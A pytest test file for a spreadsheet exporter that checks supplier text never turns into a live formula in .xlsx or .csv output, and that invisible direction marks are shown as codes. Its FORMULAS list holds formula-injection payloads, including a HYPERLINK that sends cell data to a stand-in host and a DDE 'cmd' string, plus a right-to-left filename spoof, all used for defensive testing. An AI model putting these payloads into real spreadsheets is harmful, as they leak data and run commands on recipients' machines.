"""A spreadsheet that a buyer opens never runs what a supplier wrote: text that looks like a
formula is text in .xlsx (the cell's type) and in .csv (an apostrophe before it); accents and
Swahili read right, invisible direction marks are shown as codes, numbers are numbers, dates are
dates, tabs are named as Excel allows, and nothing is left half-written."""

from __future__ import annotations

import csv
from datetime import UTC, date, datetime
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from selfassess.core.errors import InvalidInput, UserError
from selfassess.core.spreadsheets.cells import CELL_LIMIT, Column
from selfassess.core.spreadsheets.reader import read_table
from selfassess.core.spreadsheets.writer import Sheet, sheet_name, write_sheets

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Cliquez ici")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # a full-width equals sign
]


def _sheet(rows: list[list[object]], title: str = "Answers") -> Sheet:
    columns = [Column(f"Column {n}") for n in range(max(len(row) for row in rows))]
    return Sheet("answers", title, columns, rows)  # type: ignore[arg-type]


def _xlsx_cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    sheet = openpyxl.load_workbook(path).worksheets[0]
    return list(sheet[2])


def test_formula_like_text_is_text_in_an_xlsx(tmp_path: Path) -> None:
    target = tmp_path / "export.xlsx"
    write_sheets(target, [_sheet([FORMULAS])])
    cells = _xlsx_cells(target)
    assert [cell.data_type for cell in cells] == ["s"] * len(FORMULAS)
    assert [cell.value for cell in cells][:6] == FORMULAS[:6]
    assert cells[7].value == "\n=1+1"  # a carriage return is a line break, still text


def test_formula_like_text_gets_an_apostrophe_in_a_csv(tmp_path: Path) -> None:
    written = write_sheets(tmp_path / "export.csv", [_sheet([FORMULAS])])
    assert written == [tmp_path / "export-answers.csv"]
    with written[0].open(encoding="utf-8-sig", newline="") as stream:
        cells = list(csv.reader(stream))[1]
    assert all(cell.startswith("'") for cell in cells), cells
    assert cells[0] == "'=1+1"
    assert read_table(written[0]).rows[0].cells["Column 0"] == "=1+1"  # our reader undoes it


def test_text_that_reads_as_an_error_code_stays_text(tmp_path: Path) -> None:
    write_sheets(tmp_path / "export.xlsx", [_sheet([["#N/A", "#REF!", "# of workers"]])])
    cells = _xlsx_cells(tmp_path / "export.xlsx")
    assert [(cell.value, cell.data_type) for cell in cells] == [
        ("#N/A", "s"), ("#REF!", "s"), ("# of workers", "s")
    ]  # fmt: skip


def test_harmless_text_and_numbers_are_written_as_they_are(tmp_path: Path) -> None:
    row = ["Coopérative minière", "Ushirika wa wachimbaji", "a-b", "1+1", -3, 2.5, True]
    write_sheets(tmp_path / "export.xlsx", [_sheet([row])])
    cells = _xlsx_cells(tmp_path / "export.xlsx")
    assert [cell.value for cell in cells] == row
    assert [cell.data_type for cell in cells] == ["s", "s", "s", "s", "n", "n", "b"]
    written = write_sheets(tmp_path / "export.csv", [_sheet([row])])
    text = written[0].read_text(encoding="utf-8-sig")
    assert '"Coopérative minière","Ushirika wa wachimbaji","a-b","1+1",-3,2.5,"TRUE"' in text


def test_a_csv_opens_in_excel_with_its_accents(tmp_path: Path) -> None:
    """UTF-8 with a byte-order mark: what Excel needs to read "é" right."""
    written = write_sheets(tmp_path / "export.csv", [_sheet([["Société"]])])
    data = written[0].read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert "Société".encode() in data


def test_invisible_direction_marks_are_shown_as_codes(tmp_path: Path) -> None:
    """A right-to-left override could show "exe.pdf" as "fdp.exe": shown as its code instead;
    line breaks and the joiners of some spellings stay."""
    row = [
        "facture\u202efdp.exe",
        "zero\u200bwidth",
        "ligne 1\r\nligne 2",
        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
    ]
    write_sheets(tmp_path / "export.xlsx", [_sheet([row])])
    values = [cell.value for cell in _xlsx_cells(tmp_path / "export.xlsx")]
    assert values == ["facture<U+202E>fdp.exe", "zero<U+200B>width", "ligne 1\nligne 2", row[3]]


def test_dates_are_dates_and_times_lose_their_zone(tmp_path: Path) -> None:
    moment = datetime(2026, 3, 1, 9, 30, tzinfo=UTC)
    write_sheets(tmp_path / "export.xlsx", [_sheet([[date(2026, 2, 28), moment]])])
    day, when = _xlsx_cells(tmp_path / "export.xlsx")
    assert day.is_date
    assert day.value == datetime(2026, 2, 28)
    assert day.number_format == "yyyy-mm-dd"
    assert when.value == datetime(2026, 3, 1, 9, 30)
    written = write_sheets(tmp_path / "export.csv", [_sheet([[date(2026, 2, 28), moment]])])
    assert '"2026-02-28","2026-03-01 09:30:00"' in written[0].read_text(encoding="utf-8-sig")


def test_the_heading_row_is_bold_and_frozen_and_columns_are_wide_enough(tmp_path: Path) -> None:
    columns = [
        Column("Organisation", 30),
        Column("Pays d'origine", 8),
        Column("A long heading of words"),
    ]
    sheet = Sheet("suppliers", "Fournisseurs", columns, [["Kalimbi", "CD", "x"]])
    write_sheets(tmp_path / "export.xlsx", [sheet])
    worksheet = openpyxl.load_workbook(tmp_path / "export.xlsx")["Fournisseurs"]
    assert worksheet.freeze_panes == "A2"
    assert all(cell.font.b for cell in worksheet[1])
    widths = [worksheet.column_dimensions[letter].width for letter in "ABC"]
    assert widths == [30, 16, 25]  # declared, or as wide as the heading


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("Réponses: [brouillon] 1/2", "Réponses brouillon 1 2"),
        ("'Quoted'", "Quoted"),
        ("History", "History 1"),
        ("", "Sheet"),
        ("Ufuatiliaji wa hatua za mnunuzi kwa kila msambazaji", "Ufuatiliaji wa hatua za mnunuzi"),
    ],
)
def test_sheet_names_are_what_excel_allows(title: str, name: str) -> None:
    assert sheet_name(title) == name
    assert len(sheet_name(title)) <= 31


def test_two_sheets_never_share_a_name(tmp_path: Path) -> None:
    assert sheet_name("answers", ["Answers"]) == "answers (2)"
    sheets = [_sheet([["a"]], "Answers"), Sheet("other", "ANSWERS", [Column("x")], [["b"]])]
    write_sheets(tmp_path / "export.xlsx", sheets)
    assert openpyxl.load_workbook(tmp_path / "export.xlsx").sheetnames == ["Answers", "ANSWERS (2)"]


def test_text_longer_than_a_cell_is_cut(tmp_path: Path) -> None:
    write_sheets(tmp_path / "export.xlsx", [_sheet([["x" * (CELL_LIMIT + 10)]])])
    value = _xlsx_cells(tmp_path / "export.xlsx")[0].value
    assert len(value) == CELL_LIMIT
    assert value.endswith("…")


def test_a_failure_midway_leaves_no_file(tmp_path: Path) -> None:
    def rows() -> object:
        yield ["first"]
        raise RuntimeError("the disk went away")

    folder = tmp_path / "out"
    folder.mkdir()
    for name in ("export.xlsx", "export.csv"):
        sheet = Sheet("answers", "Answers", [Column("a")], rows())  # type: ignore[arg-type]
        with pytest.raises(RuntimeError):
            write_sheets(folder / name, [sheet])
    assert list(folder.iterdir()) == []


@pytest.mark.parametrize("name", ["export.ods", "export", "export.xls"])
def test_other_formats_are_refused_by_name(tmp_path: Path, name: str) -> None:
    with pytest.raises(InvalidInput, match=r"\.xlsx or \.csv"):
        write_sheets(tmp_path / name, [_sheet([["a"]])])


def test_a_missing_folder_is_refused_before_any_work(tmp_path: Path) -> None:
    with pytest.raises(UserError, match="does not exist"):
        write_sheets(tmp_path / "nowhere" / "export.xlsx", [_sheet([["a"]])])


@settings(max_examples=60, deadline=None)
@given(st.text(min_size=1, max_size=40))
def test_no_text_ever_becomes_a_formula(
    tmp_path_factory: pytest.TempPathFactory, text: str
) -> None:
    folder = tmp_path_factory.mktemp("any")
    write_sheets(folder / "export.xlsx", [_sheet([[text]])])
    cell = _xlsx_cells(folder / "export.xlsx")[0]
    assert cell.value is None or cell.data_type == "s"
    written = write_sheets(folder / "export.csv", [_sheet([[text]])])
    with written[0].open(encoding="utf-8-sig", newline="") as stream:
        value = list(csv.reader(stream))[1][0]
    assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))
